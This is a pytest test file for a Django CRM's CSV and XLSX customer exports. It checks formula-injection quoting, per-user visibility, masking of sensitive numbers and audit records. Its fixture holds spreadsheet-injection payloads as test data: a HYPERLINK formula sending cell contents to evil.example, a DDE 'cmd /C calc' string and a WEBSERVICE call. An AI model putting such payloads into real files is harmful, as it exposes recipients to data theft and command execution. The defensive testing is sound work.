"""Customer exports in both formats: what each user gets, how dangerous text is neutralised, and
what the audit log keeps. Workbooks are read back with openpyxl, so the tests see the cell types
a spreadsheet program would see."""

import csv
import datetime as dt
import io
import zipfile

import openpyxl
import pytest
from django.core.exceptions import PermissionDenied
from django.utils import timezone, translation

from guanxi.audit.models import AuditEvent
from guanxi.core.testing.factories import CustomerFactory
from guanxi.core.testing.visibility_matrix import EXPECTED
from guanxi.customers import exports
from guanxi.customers.exports import (
    EXPORT_COLUMNS,
    customers_export_csv,
    customers_export_csv_stream,
    customers_export_xlsx,
    neutralise_formula,
)
from guanxi.customers.models import Address, Customer, Email, Tag
from guanxi.customers.services import customer_create

pytestmark = pytest.mark.django_db

FORMATS = ("csv", "xlsx")
DANGEROUS_STARTS = ("=", "+", "-", "@", "\t", "\r")
# The text columns a customer's own data can fill, each with the characters it is given below.
PAYLOAD_COLUMNS = (
    "external_id",
    "name",
    "company",
    "industry",
    "sales_region",
    "emails",
    *("address", "city", "region", "postcode", "country"),
    "tags",
)


def read_csv(content: bytes) -> list[dict[str, str]]:
    assert content.startswith("\ufeff".encode()), "the byte order mark is missing"
    return list(csv.DictReader(io.StringIO(content.decode("utf-8-sig"))))


def open_sheet(file):
    """The only sheet of a workbook file, loaded fully so every cell has its stored type."""
    data = file.read()
    file.close()
    workbook = openpyxl.load_workbook(io.BytesIO(data))
    assert len(workbook.worksheets) == 1
    return workbook.worksheets[0], data


def read_xlsx(file) -> list[dict[str, openpyxl.cell.Cell]]:
    sheet, _data = open_sheet(file)
    rows = list(sheet.iter_rows())
    assert [c.value for c in rows[0]] == list(EXPORT_COLUMNS)
    return [dict(zip(EXPORT_COLUMNS, row, strict=True)) for row in rows[1:]]


def export_values(export_format: str, **kwargs) -> list[dict]:
    """Each exported row as {column: value}, whichever the format."""
    if export_format == "csv":
        return read_csv(customers_export_csv(**kwargs))
    return [
        {k: c.value for k, c in row.items()} for row in read_xlsx(customers_export_xlsx(**kwargs))
    ]


def customer_with_text(start: str) -> Customer:
    """A customer whose every free-text export column begins with ``start``, written straight
    to the tables as an import or an old record could be (the services strip tabs and line
    breaks, the export must not rely on that)."""
    customer = CustomerFactory(
        owner=None,
        name=f'{start}HYPERLINK("http://evil.example/?"&A1,"click")',
        company=f"{start}cmd|' /C calc'!A0",
        external_id=f"{start}1+1",
        industry=f"{start}SUM(1,2)",
        region=f"{start}2+3",
    )
    Email.objects.create(customer=customer, address=f"{start}x@example.com")
    Address.objects.create(
        customer=customer,
        street=f"{start}HYPERLINK(1)",
        city=f"{start}A1",
        region=f"{start}1+1",
        postcode=f"{start}SW1A",  # not "-200000", a bare negative number left as it is
        country=f"{start}C",
    )
    # A tag without a separator of tags, which would have it written in double quotes, a cell
    # no spreadsheet evaluates (test_export_tags_round_trip.py).
    customer.tags.add(Tag.objects.create(name=f'{start}WEBSERVICE("evil.example")'))
    return customer


# ---------------------------------------------------------------------------------------------
# The neutralisation rule


@pytest.mark.parametrize("start", DANGEROUS_STARTS)
def test_text_that_a_spreadsheet_would_evaluate_gets_a_quote(start):
    assert neutralise_formula(f"{start}1+1") == f"'{start}1+1"


@pytest.mark.parametrize(
    "value",
    ["  =1+1", " @SUM(A1)", "+86 139 **** 1111", "-5 km", "-", "--1", "-1e3", "-1.", "- 5"],
)
def test_leading_spaces_signs_and_things_that_only_look_numeric_are_quoted(value):
    assert neutralise_formula(value) == "'" + value


@pytest.mark.parametrize(
    "value",
    ["", "王芳", "Acme = Best", "a+b@example.com", "'quoted", "-5", "-12.50", "0", "#N/A"],
)
def test_harmless_text_and_bare_negative_numbers_are_left_alone(value):
    assert neutralise_formula(value) == value


def test_text_starting_with_a_quote_before_a_formula_gets_one_more():
    # Harmless as it is, but the importers take one quote off such a cell: written as it is,
    # it would come back as the formula's text without its quote.
    assert neutralise_formula("'=already quoted") == "''=already quoted"


# ---------------------------------------------------------------------------------------------
# Formula injection, end to end


@pytest.mark.parametrize("start", DANGEROUS_STARTS)
def test_csv_cells_never_start_a_formula(company, start):
    customer = customer_with_text(start)
    [row] = [
        r
        for r in read_csv(customers_export_csv(actor=company.admin))
        if r["id"] == str(customer.pk)
    ]
    for column in PAYLOAD_COLUMNS:
        assert row[column].startswith("'" + start), (column, row[column])
    assert row["name"] == "'" + customer.name
    assert row["emails"] == f"'{start}x@example.com"


@pytest.mark.parametrize("start", DANGEROUS_STARTS)
def test_xlsx_cells_are_quoted_strings_never_formulas(company, start):
    customer = customer_with_text(start)
    sheet, data = open_sheet(customers_export_xlsx(actor=company.admin))
    rows = [dict(zip(EXPORT_COLUMNS, row, strict=True)) for row in sheet.iter_rows(min_row=2)]
    [row] = [r for r in rows if r["id"].value == customer.pk]
    # XML reads a bare carriage return back as a line feed; either way the quote comes first.
    read_back = start.replace("\r", "\n")
    for column in PAYLOAD_COLUMNS:
        cell = row[column]
        assert cell.data_type == "s", (column, cell.data_type)
        assert cell.value.startswith("'" + read_back), (column, cell.value)
    assert row["name"].value == "'" + customer.name.replace("\r", "\n")
    assert row["company"].value == "'" + customer.company.replace("\r", "\n")
    # No formula element anywhere in the workbook, whatever the reader makes of the cells.
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/")]
        assert sheets and not any(
            b"<f>" in archive.read(n) or b"<f " in archive.read(n) for n in sheets
        )


def test_xlsx_text_that_openpyxl_would_misread_is_still_stored_as_text(company):
    # '#N/A' would be written as an error value; it is someone's tag, so it must stay text.
    customer = CustomerFactory(owner=None, name="#N/A", industry="#REF!")
    [row] = [
        r
        for r in read_xlsx(customers_export_xlsx(actor=company.admin))
        if r["id"].value == customer.pk
    ]
    assert (row["name"].value, row["name"].data_type) == ("#N/A", "s")
    assert (row["industry"].value, row["industry"].data_type) == ("#REF!", "s")


def test_xlsx_replaces_characters_a_workbook_cannot_hold(company):
    customer = CustomerFactory(owner=None, name="Zhang\x01Wei\x1f", industry="a\tb\nc")
    [row] = [
        r
        for r in read_xlsx(customers_export_xlsx(actor=company.admin))
        if r["id"].value == customer.pk
    ]
    assert row["name"].value == "Zhang\ufffdWei\ufffd"
    assert row["industry"].value == "a\tb\nc"  # tab and line break are allowed inside text
    [csv_row] = [
        r
        for r in read_csv(customers_export_csv(actor=company.admin))
        if r["id"] == str(customer.pk)
    ]
    assert csv_row["name"] == "Zhang\x01Wei\x1f"


@pytest.mark.parametrize("export_format", FORMATS)
def test_masked_phones_are_quoted_and_negative_numbers_stay_numbers(company, export_format):
    customer = customer_create(
        actor=company.rep, data={"name": "Li Na", "phones": ["13900001111"], "region": "-5"}
    )
    [row] = [
        r
        for r in export_values(export_format, actor=company.rep)
        if str(r["id"]) == str(customer.pk)
    ]
    assert row["phones"] == "'+86 139 **** 1111"
    assert row["sales_region"] == "-5"


# ---------------------------------------------------------------------------------------------
# Who gets what


@pytest.mark.parametrize("export_format", FORMATS)
@pytest.mark.parametrize("username", sorted(EXPECTED))
def test_an_export_holds_exactly_the_customers_the_user_sees(company, username, export_format):
    rows = export_values(export_format, actor=company.users[username])
    ids = [int(r["id"]) for r in rows]
    assert len(ids) == len(set(ids))
    assert set(ids) == {company.customers[n].pk for n in EXPECTED[username][0]}


@pytest.mark.parametrize("export_format", FORMATS)
def test_full_numbers_need_the_permission_and_a_refusal_leaves_no_trace(company, export_format):
    customer_create(
        actor=company.rep,
        data={
            "name": "Full",
            "phones": ["13900001111"],
            "id_number": "11010519491231002X",
            "tags": ["full"],
        },
    )
    export = customers_export_csv if export_format == "csv" else customers_export_xlsx
    with pytest.raises(PermissionDenied):
        export(actor=company.rep, reveal=True)
    assert not AuditEvent.objects.filter(action=AuditEvent.Action.EXPORT).exists()

    [masked] = export_values(export_format, actor=company.manager, filters={"tag": "full"})
    assert masked["phones"] == "'+86 139 **** 1111"
    assert masked["id_number"] == "1****************X"
    [full] = export_values(
        export_format, actor=company.manager, filters={"tag": "full"}, reveal=True
    )
    assert full["phones"] == "'+86 139 0000 1111"
    assert full["id_number"] == "11010519491231002X"


@pytest.mark.parametrize("export_format", FORMATS)
def test_every_export_writes_one_audit_row_with_format_filters_and_count(company, export_format):
    customer_create(actor=company.rep, data={"name": "Tagged", "tags": ["VIP"]})
    customer_create(actor=company.rep, data={"name": "Also tagged", "tags": ["VIP"]})
    before = AuditEvent.objects.filter(action=AuditEvent.Action.EXPORT).count()

    export_values(
        export_format, actor=company.manager, filters={"tag": "VIP", "q": ""}, reveal=True
    )

    events = AuditEvent.objects.filter(action=AuditEvent.Action.EXPORT)
    assert events.count() == before + 1
    event = events.latest("id")
    assert event.actor == company.manager
    assert event.object_type == "customer_list"
    assert event.changes == {
        "format": {"before": None, "after": export_format},
        "layout": {"before": None, "after": "importable"},
        "filters": {"before": None, "after": {"tag": "VIP"}},
        "rows": {"before": None, "after": 2},
        "revealed": {"before": None, "after": True},
    }


def test_a_csv_export_streams_in_pieces_after_its_audit_row(company, monkeypatch):
    for i in range(5):
        customer_create(
            actor=company.admin,
            data={
                "name": f"客户{i}",
                "phones": [f"1380000000{i}", f"1390000000{i}"],
                "emails": [f"c{i}@example.com"],
                "tags": ["VIP", f"批次{i}"],
            },
        )
    whole = customers_export_csv(actor=company.admin)
    AuditEvent.objects.filter(action=AuditEvent.Action.EXPORT).delete()
    # Pieces of a few rows, and customers read two at a time: every chunk's phones, emails and
    # tags must still land on their own customer.
    monkeypatch.setattr(exports, "CSV_PIECE", 300)
    monkeypatch.setattr(exports, "EXPORT_CHUNK", 2)

    pieces = customers_export_csv_stream(actor=company.admin)

    event = AuditEvent.objects.get(action=AuditEvent.Action.EXPORT)  # before any piece is made
    assert event.changes["rows"]["after"] == Customer.objects.count()
    pieces = list(pieces)
    assert len(pieces) > 3
    assert b"".join(pieces) == whole
    rows = read_csv(whole)
    assert {r["name"]: r["tags"] for r in rows if r["name"].startswith("客户")} == {
        f"客户{i}": f"VIP; 批次{i}" for i in range(5)
    }


@pytest.mark.parametrize("export_format", FORMATS)
def test_filters_narrow_the_export(company, export_format):
    wanted = customer_create(
        actor=company.rep, data={"name": "Wanted", "kind": "partner", "tags": ["展会2026"]}
    )
    customer_create(actor=company.rep, data={"name": "Other partner", "kind": "partner"})
    customer_create(actor=company.rep, data={"name": "Other tagged", "tags": ["展会2026"]})
    rows = export_values(
        export_format, actor=company.rep, filters={"kind": "partner", "tag": "展会2026"}
    )
    assert [int(r["id"]) for r in rows] == [wanted.pk]
    assert [
        r["name"]
        for r in export_values(
            export_format, actor=company.rep, filters={"owner_id": company.teammate.pk}
        )
    ] == ["Teammate Customer"]


@pytest.mark.parametrize("export_format", FORMATS)
def test_chinese_text_survives(company, export_format):
    customer = customer_create(
        actor=company.rep,
        data={
            "name": "王芳",
            "company": "上海贸易有限公司",
            "region": "上海",
            "industry": "零售",
            "tags": ["展会2026", "重要客户"],
        },
    )
    [row] = export_values(export_format, actor=company.rep, filters={"tag": "重要客户"})
    assert int(row["id"]) == customer.pk
    assert (row["name"], row["company"], row["sales_region"], row["industry"]) == (
        "王芳",
        "上海贸易有限公司",
        "上海",
        "零售",
    )
    assert sorted(row["tags"].split("; ")) == ["展会2026", "重要客户"]


ADDRESS_COLUMNS = ("address", "city", "region", "postcode", "country")


@pytest.mark.parametrize("export_format", FORMATS)
def test_a_customer_is_exported_with_its_first_address_under_the_imports_keys(
    company, export_format
):
    two = customer_create(
        actor=company.rep,
        data={
            "name": "两个地址",
            "region": "华东",
            "addresses": [
                {
                    "label": "billing",
                    "street": "南京西路 1 号",
                    "city": "上海",
                    "region": "上海市",
                    "postcode": "200040",
                    "country": "CN",
                },
                {"street": "5 Xinhua Rd", "city": "Guangzhou", "region": "Guangdong"},
            ],
        },
    )
    customer_create(actor=company.rep, data={"name": "没有地址", "region": "华南"})
    # The columns follow the emails, named as the import names them; the sales region keeps
    # its own column, apart from the address's province.
    start = EXPORT_COLUMNS.index("emails") + 1
    assert EXPORT_COLUMNS[start : start + 5] == ADDRESS_COLUMNS
    assert EXPORT_COLUMNS.count("region") == 1 and "sales_region" in EXPORT_COLUMNS
    rows = {row["name"]: row for row in export_values(export_format, actor=company.rep)}
    # The first in the model's ordering (the earliest added): there is no primary address.
    assert two.addresses.first().street == "南京西路 1 号"
    assert [rows["两个地址"][c] for c in ADDRESS_COLUMNS] == [
        "南京西路 1 号",
        "上海",
        "上海市",
        "200040",
        "CN",
    ]
    assert rows["两个地址"]["sales_region"] == "华东"
    empty = "" if export_format == "csv" else None
    assert [rows["没有地址"][c] for c in ADDRESS_COLUMNS] == [empty] * 5
    assert rows["没有地址"]["sales_region"] == "华南"


@pytest.mark.parametrize("export_format", FORMATS)
def test_an_empty_list_exports_the_header_only(company, export_format):
    if export_format == "csv":
        content = customers_export_csv(actor=company.rep, filters={"tag": "no-one-has-this"})
        assert content.decode("utf-8-sig").splitlines() == [",".join(EXPORT_COLUMNS)]
    else:
        sheet, _data = open_sheet(
            customers_export_xlsx(actor=company.rep, filters={"tag": "no-one-has-this"})
        )
        assert [[c.value for c in row] for row in sheet.iter_rows()] == [list(EXPORT_COLUMNS)]
    assert AuditEvent.objects.get(action=AuditEvent.Action.EXPORT).changes["rows"]["after"] == 0


def test_xlsx_keeps_numbers_and_dates_as_spreadsheet_types(company, settings):
    settings.TIME_ZONE = "Asia/Shanghai"
    customer = company.rep_customer
    Customer.objects.filter(pk=customer.pk).update(
        created_at=dt.datetime(2026, 1, 31, 17, 30, 15, 123456, tzinfo=dt.UTC)
    )
    customer.refresh_from_db()
    [row] = [
        r
        for r in read_xlsx(customers_export_xlsx(actor=company.rep))
        if r["id"].value == customer.pk
    ]
    assert row["id"].data_type == "n" and isinstance(row["id"].value, int)
    # Shown in the site's time zone, as on the pages: 17:30 UTC is 01:30 next day in Shanghai.
    assert row["created_at"].is_date
    assert row["created_at"].value == dt.datetime(2026, 2, 1, 1, 30, 15)
    assert row["created_at"].value == timezone.localtime(customer.created_at).replace(
        tzinfo=None, microsecond=0
    )
    assert row["external_id"].value is None  # empty, not an empty string
    [csv_row] = [
        r for r in read_csv(customers_export_csv(actor=company.rep)) if r["id"] == str(customer.pk)
    ]
    assert csv_row["created_at"] == "2026-01-31T17:30:15.123456+00:00"


# ---------------------------------------------------------------------------------------------
# Lists longer than a sheet


@pytest.mark.parametrize("sheet_rows", [3, 4, 11])
def test_xlsx_goes_on_in_further_sheets_each_with_its_header(company, monkeypatch, sheet_rows):
    """Excel holds 1,048,576 rows a sheet; the limit is lowered here so that a few customers
    fill several sheets (with 4, the admin's ten customers fill three sheets exactly, and no
    empty fourth one may follow)."""
    for i in range(10 - Customer.objects.count()):
        customer_create(actor=company.admin, data={"name": f"客户{i}", "tags": [f"批次{i}"]})
    expected = list(Customer.objects.order_by("id").values_list("id", "name"))
    assert len(expected) == 10
    monkeypatch.setattr(exports, "XLSX_SHEET_ROWS", sheet_rows)
    monkeypatch.setattr(exports, "EXPORT_CHUNK", 2)  # sheets change within and across chunks

    file = customers_export_xlsx(actor=company.admin)

    workbook = openpyxl.load_workbook(io.BytesIO(file.read()))
    file.close()
    per_sheet = sheet_rows - 1
    sheets = -(-len(expected) // per_sheet)
    assert workbook.sheetnames == ["Customers"] + [f"Customers ({n})" for n in range(2, sheets + 1)]
    exported = []
    for sheet in workbook.worksheets:
        rows = [[c.value for c in row] for row in sheet.iter_rows()]
        assert rows[0] == list(EXPORT_COLUMNS)
        assert 2 <= len(rows) <= sheet_rows
        assert sheet.freeze_panes == "A2"
        assert sheet.cell(row=1, column=1).font.bold
        exported += [(row[0], row[EXPORT_COLUMNS.index("name")]) for row in rows[1:]]
    assert exported == expected
    event = AuditEvent.objects.get(action=AuditEvent.Action.EXPORT)
    assert event.changes["rows"]["after"] == len(expected)


def test_a_list_that_fits_stays_on_one_sheet_at_the_real_limit(company):
    assert exports.XLSX_SHEET_ROWS == 1_048_576  # Excel's limit, header row included
    sheet, _data = open_sheet(customers_export_xlsx(actor=company.admin))
    assert sheet.title == "Customers"
    assert sheet.max_row == Customer.objects.count() + 1


# ---------------------------------------------------------------------------------------------
# What the columns are called in the reader's language


@pytest.mark.parametrize(
    ("language", "kind_note"),
    [
        ("en", "Kind\npotential: Potential, intent: Intent, prospect: Prospect"),
        ("zh-hans", "客户类别\npotential: 潜在客户, intent: 意向客户, prospect: 准客户"),
    ],
)
def test_xlsx_header_cells_name_their_column_in_the_readers_language_on_every_sheet(
    company, monkeypatch, language, kind_note
):
    monkeypatch.setattr(exports, "XLSX_SHEET_ROWS", 3)
    with translation.override(language):
        file = customers_export_xlsx(actor=company.admin)
    workbook = openpyxl.load_workbook(io.BytesIO(file.read()))
    file.close()
    assert len(workbook.worksheets) > 1
    for sheet in workbook.worksheets:
        header = next(sheet.iter_rows(max_row=1))
        # The headers stay the keys the import reads; the names are in notes beside them.
        assert [cell.value for cell in header] == list(EXPORT_COLUMNS)
        notes = {cell.value: cell.comment.text for cell in header}
        assert notes["kind"].startswith(kind_note)
        assert all(notes.values())
    if language == "zh-hans":
        assert notes["phones"].startswith("电话\n") and notes["sales_region"] == "销售区域"
        # The import's ``region`` is the address's province, and its note says so.
        assert notes["region"].startswith("省 / 州\n") and notes["address"].startswith("详细地址\n")
        assert (
            notes["city"]
            == "城市\n客户的第一个地址；导入只添加客户还没有的地址，不修改、不删除已有地址"
        )
    else:
        assert notes["region"].startswith("Province / state\n")
        assert notes["address"].startswith("Street address\n")
